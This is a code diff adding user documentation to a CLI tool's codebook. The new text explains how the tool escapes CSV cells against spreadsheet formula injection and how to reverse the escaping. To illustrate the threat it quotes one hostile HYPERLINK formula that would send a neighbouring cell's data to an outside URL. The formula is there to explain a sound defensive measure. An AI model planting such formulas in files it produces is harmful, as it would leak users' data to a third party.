@@ -108,6 +108,18 @@ def codebook() -> str:
         "- **Yes/no** fields are `true` or `false`; **JSON** fields take a JSON object.",
         "- A source's text (`kb add source --text-file`) cannot come from a CSV: add such sources with",
         "  `kb add source`, then cite them by ID.",
+        "",
+        "## The CSV kb writes",
+        "",
+        "`kb export`, `kb log --csv` and the published site's `.csv` links never hold a cell a spreadsheet",
+        'would run (CSV injection: `=HYPERLINK("http://…"&A1, "click")` in a claim\'s text would send',
+        "the next cell away). As OWASP recommends, a cell that begins with `=`, `+`, `-`, `@`, a tab or a",
+        "carriage return is written with a single quote before it (`'=1+1`), which a spreadsheet shows as",
+        "text; so that this undoes exactly, a cell that begins with a single quote gets one more too",
+        "(`''quoted`). **To get back what kb holds, remove one leading `'` from every cell that begins with",
+        "one.** A number as a whole is data, not a formula, and is written as it is: a negative value or",
+        "change (`-5`, `-1.5`, `-2e3`) stays a number in the spreadsheet. `kb import --csv` reads cells as",
+        "they are: remove the quotes before importing a sheet made from an export.",
     ]
     for type_ in models.MODELS:
         lines += ["", f"## {type_}", "", "| column | required | written as | field |", "|---|---|---|---|"]
